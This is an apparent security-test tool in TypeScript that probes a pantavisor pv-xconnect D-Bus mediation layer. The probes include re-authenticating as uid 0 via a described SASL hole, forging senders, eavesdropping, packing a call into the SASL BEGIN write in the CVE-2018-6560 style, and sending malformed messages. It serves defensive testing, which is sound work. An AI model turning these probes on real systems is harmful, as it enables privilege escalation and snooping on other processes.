// dbus-attacker: what a consumer holding a low role (args.json: role `nobody`, interface
// org.pantavisor.Example) can try against the provider's bus through the socket pv-xconnect injects
// at /run/dbus/system_bus_socket. Run it against your own mesh to check that the mediation holds.
//   (a) own org.pantavisor.Example (RequestName, replacing the owner): the provider's policy lets
//       only root own it;
//   (b) re-authenticate as root on one connection: after a first authentication (rejected, or
//       accepted and then cancelled), send `AUTH EXTERNAL 30` (uid 0) and ask the bus which uid it
//       now sees. pv-xconnect master rewrites only the first AUTH, so this makes a client root;
//   (c) send with a forged sender: a signal to ourselves claiming to come from
//       org.pantavisor.Example; the daemon must overwrite the sender with our unique name;
//   (d) call org.pantavisor.Example.Private, a service we did not declare;
//   (e) ListNames: does it reveal names we did not declare?
//   (f) eavesdrop: AddMatch with eavesdrop=true (is a call made on another connection delivered
//       to us?), then BecomeMonitor;
//   (g) a call to org.pantavisor.Example.Private in the same write as the SASL BEGIN line (the
//       CVE-2018-6560 class: a proxy that takes those bytes for the end of the handshake lets them
//       through unfiltered);
//   (h) a malformed header, then an oversize message, each on its own connection: the connection
//       must be closed, and a fresh connection must still work.
// (c) to (f) use the connection (b) authenticated; under pv-xconnect master that is uid 0, which
// is what the hole in (b) gives any role. Under the documented mesh, a refusal of (d) to (g) comes
// from the mesh itself (sender org.pantavisor.xconnect), before the bus sees the call.
// Prints one verdict line per attempt and a summary. Exit 0: every attempt refused; exit 1:
// `VULNERABLE: ...`; exit 2: the bus could not be reached (nothing was tested).
//
// Run:  node dist/dbus-attacker/main.js [--socket PATH] [--role ROLE] [--wait SECONDS]
//       (PV_ROOT=DIR moves the default path; --wait: how long to wait for the injected socket and
//       the bus behind it, 30 s by default; --help)
// Stop: SIGTERM or Ctrl-C ends the run between two steps, with no verdict: exit 0.
//
// Simplified: (b) to (h) speak SASL and D-Bus by hand on a plain socket (./raw-bus.ts; dbus-next's
// wire codec encodes the messages), because dbus-next's own connection always runs an honest SASL
// exchange.
import { DBusError, type MessageBus, NameFlag, RequestNameReply, sessionBus } from "dbus-next";
import type { WireMessage } from "dbus-next/lib/message";
import { parseCommandLine } from "../../shared/cli";
import { log, reason } from "../../shared/log";
import { devicePath, ROOT_ENV } from "../../shared/paths";
import { ROLE_ENV, roleLabel } from "../../shared/role";
import { FatalError, runMain } from "../../shared/run";
import { sleep, stopSignal, untilAborted } from "../../shared/shutdown";
import { WAIT_OPTION, waitForPath, waitSeconds } from "../../shared/wait";
import { BUS_CALL, DRIVER, ERROR, externalId, METHOD_CALL, METHOD_RETURN, RawBus, ROOT_CLAIM, SIGNAL, STEP_TIMEOUT_MS, Unreachable } from "./raw-bus";

const SOCKET_PATH = "/run/dbus/system_bus_socket";
const BUS_NAME = "org.pantavisor.Example";
const PRIVATE = { destination: "org.pantavisor.Example.Private", path: "/org/pantavisor/Example/Private", interface: "org.pantavisor.Example.Private", member: "GetInfo" };
const ATTEMPTS = 8;

interface Verdict {
  vulnerable: boolean;
  detail: string;
}

/** "<error name> from <sender>: <text>": the sender tells whether the mesh or the bus refused. */
function describeError(reply: WireMessage): string {
  const by = reply.sender === DRIVER ? "the bus" : reply.sender ?? "(no sender)";
  const text = String(reply.body?.[0]);
  return `${reply.errorName} from ${by}: ${text.length > 200 ? `${text.slice(0, 200)}...` : text}`;
}

/** Resolves once a bus answers SASL behind `path` (the injected socket may exist before the provider's bus does), false at `deadline`. */
async function waitForBus(path: string, deadline: number, signal: AbortSignal): Promise<boolean> {
  while (!signal.aborted && Date.now() < deadline) {
    let bus: RawBus | undefined;
    try {
      bus = await RawBus.open(path);
      // A bare AUTH asks which mechanisms the server supports; no uid is claimed on this connection.
      if ((await bus.sasl("AUTH")).startsWith("REJECTED")) return true;
    } catch (error) {
      log(`waiting for the bus behind ${path}: ${reason(error)}`);
    } finally {
      bus?.close();
    }
    await sleep(500, signal);
  }
  return false;
}

/** (a) RequestName with a regular dbus-next connection, as the service itself would. */
async function tryOwnName(path: string): Promise<Verdict> {
  const bus: MessageBus = sessionBus({ busAddress: `unix:path=${path}`, authMethods: ["EXTERNAL"] });
  const failed = new Promise<never>((_, reject) => bus.on("error", (error: unknown) => reject(error)));
  const timeout = (ms: number) => new Promise<never>((_, reject) => setTimeout(() => reject(new Error(`no answer within ${ms} ms`)), ms).unref());
  try {
    await Promise.race([new Promise<void>((resolve) => bus.once("connect", () => resolve())), failed, timeout(STEP_TIMEOUT_MS)]);
    const flags = NameFlag.REPLACE_EXISTING | NameFlag.DO_NOT_QUEUE;
    const reply = await Promise.race([bus.requestName(BUS_NAME, flags), failed, timeout(STEP_TIMEOUT_MS)]);
    if (reply === RequestNameReply.PRIMARY_OWNER) return { vulnerable: true, detail: `the bus made us the owner of ${BUS_NAME}` };
    return { vulnerable: true, detail: `the policy lets this role own ${BUS_NAME} (reply ${reply}: only the provider holding it kept it)` };
  } catch (error) {
    if (error instanceof DBusError) return { vulnerable: false, detail: `${error.type}: ${error.text}` };
    if (error instanceof Error && error.message === "No authentication methods left to try") return { vulnerable: false, detail: "authentication rejected by the bus" };
    throw new Unreachable(`connection to ${path} failed: ${reason(error)}`);
  } finally {
    bus.disconnect();
    // Reason for the cast: the socket is not part of dbus-next's typed API.
    (bus as unknown as { _connection: { stream: { destroy(): void } } })._connection.stream.destroy();
  }
}

/** (b) Claim uid 0 after a first authentication; resolves with the verdict and, if authenticated, the connection. */
async function tryReauthAsRoot(path: string, role: string): Promise<Verdict & { bus: RawBus | null }> {
  const bus = await RawBus.open(path);
  try {
    const first = await bus.sasl(`AUTH EXTERNAL ${externalId(process.getuid?.() ?? 0)}`);
    // Accepted (as whatever uid the mesh gave us)? Take it back: CANCEL returns to the start of SASL.
    const before = first.startsWith("OK") ? `accepted, then cancelled (${await bus.sasl("CANCEL")})` : `rejected (${first})`;
    const second = await bus.sasl(`AUTH EXTERNAL ${ROOT_CLAIM}`);
    if (!second.startsWith("OK")) {
      bus.close();
      return { vulnerable: false, bus: null, detail: `first authentication ${before}; claiming uid 0 then got "${second}"` };
    }
    await bus.begin();
    const uid = Number((await bus.callBus("GetConnectionUnixUser", "s", [bus.uniqueName])).body?.[0]);
    const vulnerable = uid === 0 && role !== "root" && role !== "0";
    return { vulnerable, bus, detail: `first authentication ${before}; after claiming uid 0 the bus sees uid ${uid}` };
  } catch (error) {
    bus.close();
    return { vulnerable: false, bus: null, detail: `the bus ended the exchange: ${(error as Error).message}` };
  }
}

/** (c) A signal to ourselves whose sender field claims to be the service. */
async function tryForgedSender(bus: RawBus): Promise<Verdict> {
  bus.send({ type: SIGNAL, path: "/org/pantavisor/Attacker", interface: "org.pantavisor.Attacker", member: "Forged", destination: bus.uniqueName, sender: BUS_NAME, signature: "s", body: ["forged"] });
  try {
    const arrived = await bus.next((m) => m.type === SIGNAL && m.member === "Forged");
    return { vulnerable: arrived.sender === BUS_NAME, detail: `sent with sender ${BUS_NAME}, delivered with sender ${arrived.sender}` };
  } catch (error) {
    return { vulnerable: false, detail: `not delivered: ${(error as Error).message}` };
  }
}

/** (d) A call to the service nobody declared. */
async function tryPrivate(bus: RawBus): Promise<Verdict> {
  const reply = await bus.call(PRIVATE);
  if (reply.type === METHOD_RETURN) return { vulnerable: true, detail: `${PRIVATE.destination} answered: ${String(reply.body?.[0])}` };
  return { vulnerable: false, detail: describeError(reply) };
}

/** (e) Which names ListNames shows besides the bus, ourselves and the name we declared. */
async function tryListNames(bus: RawBus): Promise<Verdict> {
  const names = ((await bus.callBus("ListNames")).body?.[0] as string[]).sort();
  const undeclared = names.filter((name) => name !== DRIVER && name !== BUS_NAME && name !== bus.uniqueName);
  if (undeclared.length > 0) return { vulnerable: true, detail: `ListNames shows names we did not declare: ${undeclared.join(", ")}` };
  return { vulnerable: false, detail: `ListNames shows only ${names.map((name) => (name === bus.uniqueName ? `${name} (ourselves)` : name)).join(", ")}` };
}

/**
 * (f) An eavesdropping match rule: accepted, does it deliver another connection's call to
 * org.pantavisor.Example (made on a second connection of ours)? Then BecomeMonitor, which ends
 * what this connection can do.
 */
async function tryEavesdrop(bus: RawBus, path: string): Promise<Verdict> {
  const outcome = (reply: WireMessage): string => (reply.type === ERROR ? `refused (${describeError(reply)})` : "accepted");
  const match = await bus.call({ ...BUS_CALL, member: "AddMatch", signature: "s", body: ["type='method_call',eavesdrop=true"] });
  let overheard = "";
  if (match.type !== ERROR) {
    const other = await RawBus.open(path);
    try {
      if ((await other.authenticate()) !== null) {
        await other.begin();
        await other.call({ destination: BUS_NAME, path: "/org/pantavisor/Example", interface: BUS_NAME, member: "GetInfo" });
        const seen = await bus.next((m) => m.type === METHOD_CALL && m.sender === other.uniqueName).then(() => true, () => false);
        overheard = seen ? ", and it delivered another connection's call" : ", but it delivered no other connection's call";
      }
    } finally {
      other.close();
    }
  }
  const monitor = await bus.call({ ...BUS_CALL, interface: "org.freedesktop.DBus.Monitoring", member: "BecomeMonitor", signature: "asu", body: [[], 0] });
  const vulnerable = overheard.startsWith(", and") || monitor.type !== ERROR;
  return { vulnerable, detail: `AddMatch eavesdrop=true ${outcome(match)}${overheard}; BecomeMonitor ${outcome(monitor)}` };
}

/** (g) BEGIN, Hello and a call to the undeclared service, all in one write. */
async function tryCallPackedWithBegin(path: string): Promise<Verdict> {
  const bus = await RawBus.open(path);
  try {
    const how = await bus.authenticate();
    if (how === null) return { vulnerable: false, detail: "not tried: the bus rejected every authentication" };
    const [serial] = await bus.begin({ type: METHOD_CALL, ...PRIVATE });
    const reply = await bus.next((m) => m.replySerial === serial);
    if (reply.type === METHOD_RETURN) return { vulnerable: true, detail: `authenticated ${how}; the packed call was answered: ${String(reply.body?.[0])}` };
    return { vulnerable: false, detail: `authenticated ${how}; the packed call got ${describeError(reply)}` };
  } catch (error) {
    return { vulnerable: false, detail: `the connection ended: ${(error as Error).message}` };
  } finally {
    bus.close();
  }
}

// (h) A header field of the wrong type (DESTINATION as a uint32), and a fixed header that
// announces a 256 MiB body (the spec's limit is 128 MiB); serial 9 comes after Hello's.
const MALFORMED = Buffer.from("6c01000100000000090000000800000006017500" + "00000000", "hex");
const OVERSIZE = Buffer.from("6c0100010000001009000000" + "00000000", "hex");

/** (h) Each bad message on a connection of its own must close it; then a fresh connection must still work. */
async function tryBadMessages(path: string): Promise<Verdict> {
  const results: string[] = [];
  let vulnerable = false;
  for (const [what, bytes] of [["malformed header", MALFORMED], ["oversize message (256 MiB announced)", OVERSIZE]] as const) {
    const bus = await RawBus.open(path);
    try {
      if ((await bus.authenticate()) === null) return { vulnerable: false, detail: "not tried: the bus rejected every authentication" };
      await bus.begin();
      bus.write(bytes);
      const closed = await bus.closedWithin(STEP_TIMEOUT_MS);
      vulnerable ||= !closed;
      results.push(`${what}: ${closed ? "connection closed" : `still open after ${STEP_TIMEOUT_MS} ms`}`);
    } finally {
      bus.close();
    }
  }
  const fresh = await RawBus.open(path);
  try {
    await fresh.authenticate();
    await fresh.begin();
    const owner = String((await fresh.callBus("GetNameOwner", "s", [BUS_NAME])).body?.[0]);
    results.push(`a fresh connection then found ${BUS_NAME} owned by ${owner}`);
  } catch (error) {
    vulnerable = true;
    results.push(`a fresh connection then failed: ${(error as Error).message}`);
  } finally {
    fresh.close();
  }
  return { vulnerable, detail: results.join("; ") };
}

async function main(): Promise<number> {
  const { values } = parseCommandLine({
    name: "dbus-attacker",
    summary: "What a low-role consumer can try against the provider's bus through the injected socket; one verdict line per attempt.",
    options: {
      socket: { type: "string", value: "PATH", default: devicePath(SOCKET_PATH), help: "the bus socket pv-xconnect injects (service system-bus)" },
      role: { type: "string", value: "ROLE", help: "the role to print and judge against; default: PV_ROLE, else /etc/pv-role, else nobody" },
      wait: { ...WAIT_OPTION, help: "how long to wait for the injected socket and the bus behind it before giving up (exit 2)" },
    },
    env: { ...ROOT_ENV, ...ROLE_ENV },
    notes: ["Exit codes: 0 every attempt refused (or stopped by a signal); 1 VULNERABLE: something went through; 2 the bus could not be reached, nothing tested."],
    examples: ["dbus-attacker --socket /tmp/mesh/dbus-attacker/root/run/dbus/system_bus_socket"],
  });
  const path = values.socket;
  const role = roleLabel(values.role, "nobody");
  const wait = waitSeconds(values.wait);
  log(`dbus-attacker: bus ${path}, role ${role}, running as uid ${process.getuid?.()}`);
  const stopping = stopSignal();
  const deadline = Date.now() + wait * 1000;
  const found = await waitForPath(path, { waitSeconds: wait, what: "D-Bus socket", signal: stopping });
  if (stopping.aborted) return stopped(stopping, "before any attempt");
  if (!found) throw new FatalError(`${path} did not appear within ${wait} s (--wait): nothing tested`, 2);
  const answered = await waitForBus(path, deadline, stopping);
  if (stopping.aborted) return stopped(stopping, "before any attempt");
  if (!answered) throw new FatalError(`no bus answered behind ${path} within ${wait} s (--wait): nothing tested`, 2);

  const verdicts: [string, Verdict][] = [];
  const report = (attempt: string, verdict: Verdict): void => {
    verdicts.push([attempt, verdict]);
    log(`${verdict.vulnerable ? "VULNERABLE" : "refused   "} ${attempt}: ${verdict.detail}`);
  };
  const attempts = async (): Promise<void> => {
    report(`(a) own ${BUS_NAME}`, await tryOwnName(path));
    const reauth = await tryReauthAsRoot(path, role);
    report("(b) re-authenticate as uid 0", reauth);
    const onReauth: [string, (bus: RawBus) => Promise<Verdict>][] = [
      ["(c) forged sender", tryForgedSender],
      [`(d) call ${PRIVATE.destination}`, tryPrivate],
      ["(e) ListNames reveals undeclared names", tryListNames],
      ["(f) eavesdrop (AddMatch eavesdrop=true, BecomeMonitor)", (bus) => tryEavesdrop(bus, path)],
    ];
    for (const [attempt, tryIt] of onReauth) {
      if (reauth.bus === null) report(attempt, { vulnerable: false, detail: "not tried: no authenticated connection" });
      else report(attempt, await tryIt(reauth.bus).catch((error: unknown) => ({ vulnerable: false, detail: `the connection ended: ${(error as Error).message}` })));
    }
    reauth.bus?.close();
    report("(g) call packed into the same write as BEGIN", await tryCallPackedWithBegin(path));
    report("(h) malformed and oversize messages", await tryBadMessages(path));
  };
  try {
    // A signal ends the run between two steps; the connections still open close with the process.
    await Promise.race([attempts(), untilAborted(stopping)]);
    if (stopping.aborted) return stopped(stopping, `after ${verdicts.length} of ${ATTEMPTS} attempts`);
  } catch (error) {
    if (error instanceof Unreachable) throw new FatalError(`${error.message}: nothing tested`, 2);
    throw error;
  }

  const open = verdicts.filter(([, verdict]) => verdict.vulnerable).map(([attempt]) => attempt);
  if (open.length === 0) {
    log(`summary: all ${verdicts.length} attempts refused for role ${role}`);
    return 0;
  }
  log(`VULNERABLE: ${open.join("; ")} (role ${role})`);
  return 1;
}

function stopped(stopping: AbortSignal, when: string): number {
  log(`dbus-attacker: ${String(stopping.reason)} received ${when}: no verdict`);
  return 0;
}

if (require.main === module) runMain(main);
